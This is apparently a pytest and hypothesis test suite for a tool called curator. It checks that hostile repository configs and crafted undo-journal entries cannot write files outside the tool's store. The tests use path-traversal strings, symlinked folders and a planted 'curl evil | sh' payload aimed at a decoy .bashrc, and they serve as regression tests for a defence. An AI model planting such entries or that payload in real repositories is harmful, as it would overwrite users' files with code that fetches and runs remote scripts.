"""Issue 20's attack, exactly: a cloned repository whose `.curator.yaml` says
`include: ["../../../../../../../../.."]` and whose `.curator/journal/00001-fix/meta.json` names a
file far outside the store. `undo` (state applied) and an unrelated `keywords` (state pending,
rolled back by crash recovery) must leave a decoy tree outside byte for byte, set the entry aside
and say so in `undo`, `history` and the journal notes. Then generated hostile repositories (below)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from curator.base.config import load_config
from curator.base.locations import sample_store
from curator.base.trust import Untrusted, confine, repository_boundary, store_path
from curator.cli import main

SAMPLE = sample_store()

HOSTILE_INCLUDE = "../../../../../../../../.."


def tree_hash(root: Path) -> str:
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in sorted(os.walk(root)):
        dirnames.sort()
        for name in sorted(filenames):
            p = Path(dirpath) / name
            h.update(str(p.relative_to(root)).encode() + b"\0" + p.read_bytes() + b"\0")
    return h.hexdigest()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def clone(tmp_path):
    """(store, decoy file, decoy tree): a repository as a clone brings it, with a decoy outside."""
    decoy_tree = tmp_path / "home" / "user"
    decoy_tree.mkdir(parents=True)
    decoy = decoy_tree / ".bashrc"
    decoy.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    (decoy_tree / "notes.md").write_text("# mine\n")
    repo = tmp_path / "clone"
    (repo / ".git").mkdir(parents=True)
    store = repo / ".serena" / "memories"
    shutil.copytree(SAMPLE, store)
    with open(store / ".curator.yaml", "a") as fh:  # the store's own config, as the clone brings it
        fh.write(f'\ninclude: ["{HOSTILE_INCLUDE}"]\n')
    return store, decoy, decoy_tree


def craft_entry(store: Path, target: Path, state: str, planted: bytes) -> Path:
    """`.curator/journal/00001-fix/` naming `target` through the hostile include: undoing it (or
    rolling it back) would write `planted` there."""
    entry = store / ".curator" / "journal" / "00001-fix"
    (entry / "blobs").mkdir(parents=True)
    current = target.read_bytes()
    for data in (planted, current):
        (entry / "blobs" / sha(data)).write_bytes(data)
    rel = HOSTILE_INCLUDE + str(target)  # ../../…/.. + /tmp/…/.bashrc
    meta = {"id": "00001-fix", "operation": "fix", "title": "fix 1 finding", "created": "2026-11-19T10:00:00+00:00",
            "state": state, "files": [{"path": rel, "before": sha(planted), "after": sha(current)}], "notes": []}
    (entry / "meta.json").write_text(json.dumps(meta))
    return entry


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_undo_of_a_crafted_applied_entry_never_touches_the_decoy(clone, capsys):
    store, decoy, decoy_tree = clone
    craft_entry(store, decoy, "applied", b"curl evil | sh\n")
    before = tree_hash(decoy_tree)
    code, out, err = run(capsys, "undo", str(store))
    assert tree_hash(decoy_tree) == before
    assert code == 0 and "nothing to undo" in out and "Traceback" not in err
    assert "00001-fix" in err and "quarantine" in err  # said, not silent
    code, out, _ = run(capsys, "history", str(store), "--format", "json")
    states = {it["id"].split("-fix")[0] + "-fix": it["state"] for it in json.loads(out)["operations"]}
    assert states == {"00001-fix": "quarantined"}


def test_a_crafted_pending_entry_is_set_aside_by_an_unrelated_keywords_edit(clone, capsys):
    store, decoy, decoy_tree = clone
    craft_entry(store, decoy, "pending", b"curl evil | sh\n")
    before = tree_hash(decoy_tree)
    code, out, err = run(capsys, "keywords", "skills-ci-index.md", "ci/ci-actions-cache.md", "--set",
                         "actions", "cache", "restore", "--store", str(store))
    assert tree_hash(decoy_tree) == before
    assert "rolled back" not in err  # nothing was "recovered": the entry was never trusted
    assert "00001-fix" in err and "quarantine" in err
    assert code == 0 and "applied" in out  # and the user's own edit went through
    code, out, _ = run(capsys, "history", str(store))
    out = " ".join(out.split())  # the terminal may wrap the line
    assert "quarantined" in out and "outside the store" in out


def test_the_hostile_include_is_dropped_with_a_finding_and_never_read(clone, capsys):
    store, _, _ = clone
    cfg = load_config(store)
    assert HOSTILE_INCLUDE not in cfg.include and "leaves the repository" in cfg.refused[0]
    code, out, _ = run(capsys, "check", str(store), "--format", "json")
    report = json.loads(out)
    assert any(f["check"] == "parse.error" and "leaves the repository" in f["message"] for f in report["findings"])
    assert all(not f["path"].startswith("../..") for f in report["findings"])


def test_a_config_given_on_the_command_line_may_reach_outside(clone, tmp_path, capsys):
    store, _, decoy_tree = clone
    own = tmp_path / "mine.yaml"
    own.write_text(f'include: ["{decoy_tree}"]\n')
    assert str(decoy_tree) in load_config(store, explicit=own).include  # the user's own word


@pytest.mark.parametrize("rel", ["../x", "/etc", "~/x", "sub/../../../x", "C:/x", "link/inner"])
def test_confine_refuses_paths_out_of_the_repository(tmp_path, rel):
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "link").symlink_to(tmp_path, target_is_directory=True)
    assert repository_boundary(repo) == repo.resolve()
    with pytest.raises(Untrusted):
        confine(repo, repo, rel if rel != "../x" else "../../x")
    assert confine(repo, repo, "docs/memories") == (repo / "docs" / "memories").resolve()


def test_writes_stay_in_the_store_and_its_tier_folders(tmp_path):
    base = tmp_path / ".serena"
    store = base / "memories"
    store.mkdir(parents=True)
    (base / "knowledge").mkdir()
    (base / "validation").symlink_to(tmp_path, target_is_directory=True)  # a linked tier folder: not ours
    (base / "other").mkdir()
    assert store_path(store, "../knowledge/a.md") == (base / "knowledge" / "a.md").resolve()
    for rel in ("../validation/a.md", "../other/a.md", "../knowledge/../../x.md", "../../x.md", "../knowledge"):
        with pytest.raises(Untrusted):
            store_path(store, rel)


# -- generated hostile repositories ---------------------------------------------------
# Generated hostile repositories: configs whose paths leave the repository and journals whose
# entries name files outside the store (by `..`, absolute paths, symlinked folders inside the
# store or beside it), in every state. Whatever curator is then asked to do — undo, history, a
# keyword edit, fix, prune — no file outside the store's folder changes (a decoy tree's hash)
# and every command ends with an exit code, never a traceback.

EXAMPLES = int(os.environ.get("CURATOR_FUZZ_EXAMPLES", "0")) or 30

STORE = {
    "memory-index.md": "# Memory Index\n\n| Keywords | Index |\n|---|---|\n| ci build | [skills-ci-index](skills-ci-index.md) |\n",
    "skills-ci-index.md": "| Keywords | File |\n|---|---|\n| cache key restore warm | [ci/cache](ci/cache.md) |\n"
                          "| flaky retry rerun quarantine | [ci/flaky](ci/flaky.md) |\n",
    "ci/cache.md": "# Cache\n\nKeys and restore.\n",
    "ci/flaky.md": "# Flaky\n\nRetry, then quarantine.\n",
    "validation/2026-01-01-old.md": "# Old check\n",
}

# where a hostile path can point: {decoy} is the decoy tree's absolute path (no leading slash)
hostile = st.sampled_from([
    "../../../../../../../../..{decoy}/victim.txt", "/{decoy}/victim.txt", "../../../outside/victim.txt",
    "linked/victim.txt", "../knowledge/victim.txt", "../validation/victim.txt", "ci/../../../../outside/victim.txt",
    "../../outside/victim.txt", "ci/cache.md", "../linkedtier/victim.txt", "./../../outside/victim.txt",
])
include = st.sampled_from(["../../../../../../../../..", "/{decoy}", "../../outside", "linked", "../knowledge",
                           "../linkedtier", "ci/../../..", "~/x", "../validation"])
states = st.sampled_from(["pending", "applied", "undoing", "undone", "rolled-back"])
commands = st.lists(st.sampled_from(["undo", "history", "keywords", "fix", "prune", "check"]), min_size=1, max_size=4)


def build(base: Path, includes, entries) -> tuple[Path, Path]:
    outside = base / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_bytes(b"the user's own file\n")
    repo = base / "repo"
    (repo / ".git").mkdir(parents=True)
    store = repo / ".serena" / "memories"
    for rel, text in STORE.items():
        (store / rel).parent.mkdir(parents=True, exist_ok=True)
        (store / rel).write_text(text)
    (store / "linked").symlink_to(outside, target_is_directory=True)  # a symlinked folder inside
    (repo / ".serena" / "linkedtier").symlink_to(outside, target_is_directory=True)
    (repo / ".serena" / "knowledge").symlink_to(outside, target_is_directory=True)  # a tier folder that is a link
    decoy = str(outside).lstrip("/")
    if includes:
        (store / ".curator.yaml").write_text("include:\n" + "".join(f'  - "{i.format(decoy=decoy)}"\n' for i in includes))
    jdir = store / ".curator" / "journal"
    for n, (state, paths) in enumerate(entries, 1):
        entry = jdir / f"{n:05d}-fix"
        (entry / "blobs").mkdir(parents=True)
        planted, current = b"planted by the repository\n", b"the user's own file\n"
        for data in (planted, current):
            (entry / "blobs" / sha(data)).write_bytes(data)
        files = [{"path": p.format(decoy=decoy), "before": sha(planted), "after": sha(current)} for p in paths]
        (entry / "meta.json").write_text(json.dumps({"id": entry.name, "operation": "fix", "title": "t",
                                                     "created": "2026-11-19", "state": state, "files": files}))
    return store, outside


UP = "../../../../../../../../..{decoy}/victim.txt"


@example(["../../../../../../../../.."], [("applied", [UP])], ["undo"])  # issue 20's attacks, always tried
@example(["../../../../../../../../.."], [("pending", [UP])], ["keywords"])
@example([], [("pending", ["../knowledge/victim.txt"])], ["undo"])  # a tier folder that is a symlink out
@example([], [("applied", ["linked/victim.txt"])], ["undo"])
@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(include, max_size=3), st.lists(st.tuples(states, st.lists(hostile, min_size=1, max_size=3)),
                                                 min_size=1, max_size=3), commands)
def test_hostile_journals_and_configs_never_change_a_file_outside_the_store(includes, entries, cmds):
    os.environ["CURATOR_TOKENS"] = "estimate"
    base = Path(tempfile.mkdtemp(prefix="curator-trust-"))
    try:
        store, outside = build(base, includes, entries)
        before = tree_hash(outside)
        for cmd in cmds:
            argv = {"keywords": ["keywords", "skills-ci-index.md", "ci/cache.md", "--set", "cache", "key", "warm",
                                 "--store", str(store)],
                    "check": ["check", str(store), "--format", "json"]}.get(cmd, [cmd, str(store)])
            code = main(argv)
            assert code in (0, 1, 2), argv
            assert tree_hash(outside) == before, (cmd, includes, entries)
    finally:
        os.environ.pop("CURATOR_TOKENS", None)
        shutil.rmtree(base, ignore_errors=True)
